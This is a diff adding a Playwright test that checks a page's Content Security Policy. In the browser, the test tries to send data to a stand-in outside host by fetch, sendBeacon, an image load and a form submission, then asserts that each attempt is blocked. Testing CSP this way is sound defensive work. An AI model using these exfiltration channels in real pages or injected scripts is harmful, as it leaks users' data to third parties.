@@ -96,3 +96,39 @@ test('text never becomes markup or a script', async ({ page }) => {
     await expect(page.evaluate(attempt), name).rejects.toThrow(/TrustedHTML|TrustedScript/);
   }
 });
+
+test('a script of the page reaches no other host by a request, a picture, a report or a form', async ({
+  page,
+}) => {
+  await page.goto('/contacto');
+  const reached: string[] = [];
+  await page.context().route('https://elsewhere.example/**', async (route) => {
+    reached.push(route.request().url());
+    await route.fulfill({ body: '' });
+  });
+  const blocked = await page.evaluate(async () => {
+    const directives: string[] = [];
+    const formBlocked = new Promise<void>((done) =>
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        directives.push(effectiveDirective);
+        if (effectiveDirective === 'form-action') done();
+      }),
+    );
+    const address = 'https://elsewhere.example/?data=1';
+    await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
+    navigator.sendBeacon(address, 'data');
+    await new Promise((done) => {
+      const picture = new Image();
+      picture.onload = picture.onerror = done;
+      picture.src = address;
+    });
+    const form = document.createElement('form');
+    form.action = address;
+    document.body.append(form);
+    form.submit();
+    await formBlocked;
+    return directives;
+  });
+  expect(blocked).toEqual(['connect-src', 'connect-src', 'img-src', 'form-action']);
+  expect(reached).toEqual([]);
+});
